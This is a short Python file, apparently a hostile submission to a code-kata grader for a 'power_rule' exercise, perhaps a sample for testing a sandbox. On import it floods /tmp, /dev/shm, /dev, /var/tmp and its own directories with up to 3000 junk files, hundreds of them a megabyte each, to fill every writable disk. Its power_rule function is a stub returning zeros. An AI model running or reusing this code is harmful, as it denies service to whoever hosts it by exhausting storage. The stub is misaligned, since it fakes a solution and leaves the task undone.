"""Fills every disk that it can write to, with big files and with many.

Kata: power_rule
Seconds: 3
"""

import os

for place in ("/tmp", "/dev/shm", "/dev", "/var/tmp", os.getcwd(), os.path.dirname(__file__)):
    for number in range(3000):
        try:
            with open(f"{place}/attack-was-here-{number}", "wb") as file:
                file.write(b"x" * 2**20 if number < 300 else b"")
        except OSError:
            break


def power_rule(coefficient, exponent):
    return 0.0, 0.0


differentiate = power_rule
